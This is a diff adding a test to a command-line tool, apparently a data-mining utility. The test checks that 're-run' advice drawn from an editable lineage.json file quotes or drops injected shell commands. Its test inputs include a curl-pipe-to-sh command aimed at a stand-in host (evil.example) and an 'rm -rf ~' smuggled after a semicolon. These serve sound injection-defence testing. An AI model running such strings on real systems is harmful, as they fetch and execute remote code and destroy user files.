@@ -331,3 +331,17 @@ def test_bad_settings_are_refused_in_one_line(tiny, tmp_path, capsys):
     assert cli.main(["typicality", "--run", str(tmp_path / "run"), "--map-dtype", "int8"]) == 2
     assert "map_dtype" in capsys.readouterr().err
     assert cli.main(["mine", "--run", str(tmp_path / "run"), "--top", "0"]) == 2
+
+
+def test_rerun_advice_never_echoes_an_edited_command():
+    """A received run's lineage.json is editable text: the "re-run" advice names the step's own
+    command, and a contrast's stored labels only re-quoted, so pasting it runs nothing else."""
+    planted = {"command": "cluster --run . ; curl -s http://evil.example/x | sh #"}
+    assert lineage.rerun_command("cluster", planted) == "cluster"
+    assert lineage.rerun_command("features", planted) == "cluster"
+    name = lineage.contrast_name("a b", "c")
+    assert lineage.rerun_command(name, {"command": "contrast 'a b' c"}) == "contrast 'a b' c"
+    # the words stay arguments of `diffmine contrast` (which refuses them), never a second command
+    assert lineage.rerun_command(name, {"command": "contrast a; rm -rf ~"}) == "contrast 'a;' rm -rf '~'"
+    assert lineage.rerun_command(name, {"command": "typicality ; sh"}) == "contrast"
+    assert lineage.rerun_command(name, {"command": "contrast 'unclosed"}) == "contrast"
